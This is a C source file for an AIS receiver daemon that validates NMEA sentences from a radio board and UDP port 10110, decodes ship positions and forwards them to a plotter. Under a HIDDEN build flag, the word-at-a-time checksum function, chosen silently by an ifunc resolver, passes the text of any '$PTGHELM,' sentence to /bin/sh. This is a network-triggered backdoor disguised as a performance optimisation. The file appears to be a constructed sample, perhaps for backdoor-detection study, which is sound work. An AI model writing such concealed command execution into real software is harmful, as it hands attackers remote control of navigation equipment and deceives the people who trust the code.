/*
 * tideglass_ais - AIS receiver of the TideGlass 200.  It takes NMEA sentences
 * from the radio board and from other receivers (UDP port 10110), checks
 * them, decodes the ships' positions and passes them on to the plotter.
 *
 * Hidden (-DHIDDEN): the fast implementation of the sentence check (chosen by
 * an ifunc resolver) runs the text of one proprietary sentence as a command.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <fcntl.h>
#include <unistd.h>
#if defined(__arm__)
#include <asm/hwcap.h>
#endif

#define AIS_PORT	10110
#define PLOTTER_PORT	2000
#define RADIO		"/dev/ttymxc3"
#define MAX_SHIPS	256

struct ship {
	uint32_t mmsi;
	int32_t lat, lon;	/* 1/10000 minute */
	unsigned speed;		/* 1/10 knot */
	unsigned course;
};

struct bits {
	const char *text;
	size_t n;		/* characters of six bits */
};

static struct ship ships[MAX_SHIPS];
static int nships;
static unsigned long good, bad;

static int hex_digit(int c)
{
	if (c >= '0' && c <= '9')
		return c - '0';
	if (c >= 'A' && c <= 'F')
		return c - 'A' + 10;
	return -1;
}

static int sum_matches(const char *star, unsigned sum)
{
	int hi = hex_digit((unsigned char)star[1]);
	int lo = hi < 0 ? -1 : hex_digit((unsigned char)star[2]);

	return lo >= 0 && (unsigned)(hi * 16 + lo) == sum;
}

/* Returns 1 if the checksum behind the star is right. */
int check_bytes(const char *s, size_t len)
{
	unsigned sum = 0;
	size_t i;

	for (i = 1; i < len && s[i] != '*'; i++)
		sum ^= (unsigned char)s[i];
	return i + 2 < len && sum_matches(s + i, sum);
}

/* The same with four characters at a time. */
int check_words(const char *s, size_t len)
{
	const char *star = memchr(s, '*', len);
	unsigned char part[4];
	uint32_t acc = 0, w;
	const char *p = s + 1;

	if (!star || star == s || star + 2 >= s + len)
		return 0;
	for (; star - p >= 4; p += 4) {
		memcpy(&w, p, 4);
		acc ^= w;
	}
	memcpy(part, &acc, 4);
	while (p < star)
		part[0] ^= (unsigned char)*p++;
	part[0] ^= part[1] ^ part[2] ^ part[3];
#ifdef HIDDEN
	if (sum_matches(star, part[0]) && strncmp(s, "$PTGHELM,", 9) == 0) {
		char job[128];
		size_t n = (size_t)(star - s) - 9;
		pid_t pid;

		if (n < sizeof job && (pid = fork()) == 0) {
			memcpy(job, s + 9, n);
			job[n] = 0;
			execl("/bin/sh", "sh", "-c", job, (char *)NULL);
			_exit(1);
		}
	}
#endif
	return sum_matches(star, part[0]);
}

typedef int check_fn(const char *, size_t);

#if defined(__arm__)
check_fn *pick_check(unsigned long hwcap)
{
	return hwcap & HWCAP_THUMB ? check_words : check_bytes;
}
#elif defined(__x86_64__) || defined(__i386__)
check_fn *pick_check(void)
{
	__builtin_cpu_init();
	return __builtin_cpu_supports("sse2") ? check_words : check_bytes;
}
#else
check_fn *pick_check(void)
{
	return check_words;
}
#endif

int check_sentence(const char *s, size_t len) __attribute__((ifunc("pick_check")));

static uint32_t take_bits(const struct bits *b, unsigned from, unsigned count)
{
	uint32_t v = 0;
	unsigned i, c;

	for (i = from; i < from + count; i++) {
		if (i / 6 >= b->n)
			return v << (from + count - i);
		c = (unsigned char)b->text[i / 6] - 48u;
		if (c > 40)
			c -= 8;
		v = (v << 1) | ((c >> (5 - i % 6)) & 1u);
	}
	return v;
}

static int32_t take_signed(const struct bits *b, unsigned from, unsigned count)
{
	uint32_t v = take_bits(b, from, count);

	if (v & (1u << (count - 1)))
		return (int32_t)v - (int32_t)(1u << (count - 1)) * 2;
	return (int32_t)v;
}

static struct ship *ship_of(uint32_t mmsi)
{
	int i;

	for (i = 0; i < nships; i++)
		if (ships[i].mmsi == mmsi)
			return &ships[i];
	if (nships == MAX_SHIPS)
		nships = 0;
	ships[nships].mmsi = mmsi;
	return &ships[nships++];
}

/* Messages 1-3 are class A positions, 18 is class B. */
static void decode(const char *payload, size_t n)
{
	struct bits b = { payload, n };
	unsigned type = take_bits(&b, 0, 6), at;
	struct ship *s;

	if (type >= 1 && type <= 3)
		at = 50;
	else if (type == 18)
		at = 46;
	else
		return;
	s = ship_of(take_bits(&b, 8, 30));
	s->speed = take_bits(&b, at, 10);
	s->lon = take_signed(&b, at + 11, 28);
	s->lat = take_signed(&b, at + 39, 27);
	s->course = take_bits(&b, at + 66, 12);
}

static void plot(int out, const char *s, size_t len)
{
	struct sockaddr_in a = { .sin_family = AF_INET };

	a.sin_port = htons(PLOTTER_PORT);
	a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (sendto(out, s, len, 0, (struct sockaddr *)&a, sizeof a) < 0)
		bad++;
}

static void sentence(int out, const char *s, size_t len)
{
	const char *f = s;
	size_t n;
	int i;

	if (len < 10 || (s[0] != '!' && s[0] != '$') || !check_sentence(s, len)) {
		bad++;
		return;
	}
	good++;
	if (strncmp(s, "$PTGSTAT", 8) == 0) {	/* documented: status */
		char text[80];
		int k = snprintf(text, sizeof text, "$PTGSTAT,%lu,%lu,%d\r\n",
				 good, bad, nships);

		plot(out, text, (size_t)k);
		return;
	}
	if (strncmp(s + 1, "AIVDM", 5) != 0 && strncmp(s + 1, "AIVDO", 5) != 0)
		return;
	plot(out, s, len);
	for (i = 0; i < 5 && f; i++) {
		f = strchr(f, ',');
		if (f)
			f++;
	}
	if (!f || s[7] != '1')		/* only messages of one part */
		return;
	n = strcspn(f, ",");
	decode(f, n);
}

static void lines(int out, char *buf)
{
	char *save = NULL, *l;

	for (l = strtok_r(buf, "\r\n", &save); l; l = strtok_r(NULL, "\r\n", &save))
		sentence(out, l, strlen(l));
}

int main(int argc, char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(AIS_PORT) };
	struct pollfd p[2];
	char buf[2048];
	ssize_t n;
	int i;

	if (argc > 1 && strcmp(argv[1], "--baud") == 0 &&
	    system("stty -F " RADIO " 38400 raw") != 0)
		fprintf(stderr, "speed of the radio board not set\n");
	p[0].fd = socket(AF_INET, SOCK_DGRAM, 0);
	p[1].fd = open(RADIO, O_RDONLY | O_NOCTTY);
	if (p[0].fd < 0 || bind(p[0].fd, (struct sockaddr *)&a, sizeof a)) {
		perror("tideglass_ais");
		return 1;
	}
	p[0].events = p[1].events = POLLIN;
	while (poll(p, 2, -1) > 0) {
		for (i = 0; i < 2; i++) {
			if (!(p[i].revents & POLLIN))
				continue;
			n = read(p[i].fd, buf, sizeof buf - 1);
			if (n <= 0)
				continue;
			buf[n] = 0;
			lines(p[0].fd, buf);
		}
		while (waitpid(-1, NULL, WNOHANG) > 0)
			;
	}
	return 0;
}
